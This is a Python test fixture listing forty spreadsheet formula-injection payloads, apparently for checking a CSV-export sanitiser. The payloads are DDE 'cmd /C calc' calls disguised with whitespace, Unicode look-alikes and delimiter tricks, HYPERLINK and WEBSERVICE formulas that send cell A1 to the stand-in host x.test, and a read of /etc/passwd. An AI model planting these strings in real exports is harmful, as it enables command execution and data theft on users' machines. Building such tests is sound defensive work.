"""Forty texts that a spreadsheet would run, reach for, or cut into a cell that it would run."""

_CALL = "cmd|' /C calc'!A0"
FORMULAS = (
    "=1+1", f"={_CALL}", f"+{_CALL}", f"-{_CALL}", f"@SUM(1+1)*{_CALL}", f"=+{_CALL}", f"=-{_CALL}", f"%=1+{_CALL}",
    '=HYPERLINK("http://x.test?a="&A1,"click")', '=IMPORTXML(CONCAT("http://x.test/",A1),"//a")',
    '=WEBSERVICE("http://x.test/"&A1)', '=IMAGE("http://x.test/a.png")', '=IMPORTDATA("http://x.test/a.csv")',
    "=DDE(\"cmd\";\"/C calc\";\"1\")", "='file:///etc/passwd'#$passwd.A1", "=cell(\"filename\")", "-2+3+cmd|'a'!A1",
    f"\t={_CALL}", f"\r={_CALL}", f"\n={_CALL}", f" ={_CALL}", f"\u200b={_CALL}", f"\ufeff={_CALL}", f"\u00a0={_CALL}",
    f"\uff1d{_CALL}", f"\uff0b{_CALL}", f"\uff0d{_CALL}", "\uff20SUM(1)", f"\u202e={_CALL}", f"\x00={_CALL}",
    f"a;={_CALL}", f"a; ={_CALL}", f'a;"={_CALL}', f"a;;+{_CALL}", f"a;-{_CALL};b", f"a\t={_CALL}", f"a\n={_CALL}",
    f'a",={_CALL}', f'"={_CALL}"', f"a,={_CALL},b",
)  # fmt: skip
